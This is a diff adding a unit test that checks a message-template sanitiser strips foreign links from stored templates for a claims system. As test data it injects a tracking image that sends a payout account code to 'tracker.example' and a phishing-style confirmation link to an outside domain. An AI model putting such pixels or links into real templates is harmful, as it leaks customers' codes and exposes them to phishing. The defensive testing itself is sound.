@@ -15,6 +15,7 @@ import {
   type TemplateName,
 } from '../../lambdas/core/templates.ts';
 import { confineRawHtml, renderMessage } from '../../lambdas/core/render-message.ts';
+import { withoutForeignLinks } from '../../lambdas/core/template-links.ts';
 
 const shipped = (name: TemplateName) => structuredClone(DEFAULT_TEMPLATES[name]) as MessageTemplate;
 const codes = (name: TemplateName, t: unknown) =>
@@ -218,5 +219,20 @@ describe('links and remote content in an edited template (phishing, tracking)', 
     ]);
     // The shipped href="{{claimUrl}}" stays allowed without any configured site.
     expect(issuesOf('claim_approved', shipped('claim_approved'), [])).toEqual([]);
+  });
+
+  it('sends a stored version saved before these rules without its foreign links: those parts as shipped', () => {
+    const t = shipped('payout_account_code');
+    t.html!.vi += '<img src="https://tracker.example/p.gif?c={{code}}">';
+    t.text.en += '\nConfirm at https://baohiem-xacnhan.example/';
+    t.text.vi += `\nTra cứu: ${site}/customer/`;
+    const stored = DEFAULT_TEMPLATES.payout_account_code as MessageTemplate;
+    const { template, replaced } = withoutForeignLinks(t, stored, [site]);
+    expect(replaced).toEqual(['text.en', 'html.vi']);
+    expect(template.html?.vi).toBe(stored.html?.vi);
+    expect(template.text.en).toBe(stored.text.en);
+    // What links only to the claims site stays as the admin wrote it.
+    expect(template.text.vi).toBe(t.text.vi);
+    expect(withoutForeignLinks(stored, stored, []).replaced).toEqual([]);
   });
 });
